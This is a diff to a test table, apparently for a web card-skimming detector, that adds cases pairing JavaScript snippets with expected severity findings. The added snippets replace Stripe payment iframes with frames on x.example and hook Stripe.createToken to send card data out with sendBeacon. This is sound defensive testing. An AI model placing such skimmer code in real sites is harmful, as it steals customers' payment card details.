@@ -65,6 +65,22 @@ const cases: Record<string, [string, string[]]> = {
     `setTimeout(function () { localStorage.setItem('k', document.querySelector('#cc_number').value) }, 100)`,
     ['medium card-data-stored'],
   ],
+  "another frame in the place of a service's": [
+    `document.querySelector('iframe[src*="js.stripe.com"]').src = 'https://x.example/card'`,
+    ['high form-redirected'],
+  ],
+  "a service's own frame put anew": [
+    `var f = document.querySelector('iframe[src*="js.stripe.com"]'); f.outerHTML = '<iframe src="https://js.stripe.example/card"></iframe>'`,
+    [],
+  ],
+  'another frame in the place of one that takes cards': [
+    `document.querySelector('iframe[name*="hosted-card"]').outerHTML = '<iframe src="https://x.example/card"></iframe>'`,
+    ['medium form-redirected'],
+  ],
+  'a copy of what a payment library is given': [
+    `var real = Stripe.createToken; Stripe.createToken = function (card) { navigator.sendBeacon('https://x.example/', JSON.stringify(card)); return real.apply(this, arguments) }`,
+    ['high requests-intercepted', 'critical typed-data-sent', 'low typed-data-sent'],
+  ],
   'an answer that is run': [loader, ['medium remote-code']],
   'an answer that is run for visitors from search engines': [
     `if (document.referrer.indexOf('google') > 0) { ${loader} }`,
